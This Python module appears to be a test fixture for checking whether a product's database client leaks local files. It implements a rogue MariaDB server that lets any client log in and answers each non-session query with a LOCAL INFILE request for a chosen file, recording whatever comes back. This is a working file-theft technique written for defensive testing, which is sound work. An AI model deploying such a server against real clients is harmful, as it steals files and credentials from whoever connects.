"""A server that speaks just enough of MariaDB's protocol to ask its client for a file, after whatever statement."""

import socket
import struct
import threading
from contextlib import suppress
from pathlib import Path

OK = b"\0\0\0\2\0\0\0"
GREETING = (
    b"\x0a5.5.5-10.11.6-MariaDB\0"
    + struct.pack("<I", 1)
    + b"A" * 8
    + b"\0"
    + struct.pack("<H", 0xF7FF)
    + b"\x21\2\0"
    + struct.pack("<H", 0x81FF)
    + bytes([21])
    + b"\0" * 10
    + b"B" * 12
    + b"\0mysql_native_password\0"
)
QUERY, WANTS_FILE = b"\x03", b"\xfb"
SESSION = (b"SET NAMES", b"SET AUTOCOMMIT", b"SELECT GET_LOCK")


class RogueServer:
    """Lets everybody in and answers every statement but the session's own by asking for ``wanted``.

    :ivar asked: how often it has asked.
    :ivar got: what clients gave it.
    :ivar statements: what they said.
    """

    def __init__(self, wanted: Path) -> None:
        self.wanted = str(wanted).encode()
        self.asked = 0
        self.got: list[bytes] = []
        self.statements: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        threading.Thread(target=self._accept, daemon=True).start()

    def url(self, host: str = "127.0.0.1") -> str:
        """The URL under which the product would know it."""
        return f"mysql://bongsu:x@{host}:{self._socket.getsockname()[1]}/smsline"

    def close(self) -> None:
        self._socket.close()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._socket.accept()
            except OSError:  # closed
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        with client, suppress(OSError):  # the client hangs up when it has understood
            _send(client, 0, GREETING)
            number, _ = _receive(client)
            _send(client, number + 1, OK)
            while True:
                _, said = _receive(client)
                if not said:
                    return
                self.statements.append(said[1:])
                if said[:1] != QUERY or said[1:].upper().startswith(SESSION):
                    _send(client, 1, OK)
                    continue
                self.asked += 1
                _send(client, 1, WANTS_FILE + self.wanted)
                given = b""
                number, part = _receive(client)
                while part:
                    given += part
                    number, part = _receive(client)
                if given:
                    self.got.append(given)
                _send(client, number + 1, OK)


def _send(client: socket.socket, number: int, body: bytes) -> None:
    client.sendall(struct.pack("<I", len(body))[:3] + bytes([number]) + body)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    """A packet's number and body; an empty body also when the client has gone."""
    head = client.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        return 0, b""
    size = int.from_bytes(head[:3], "little")
    return head[3], client.recv(size, socket.MSG_WAITALL) if size else b""
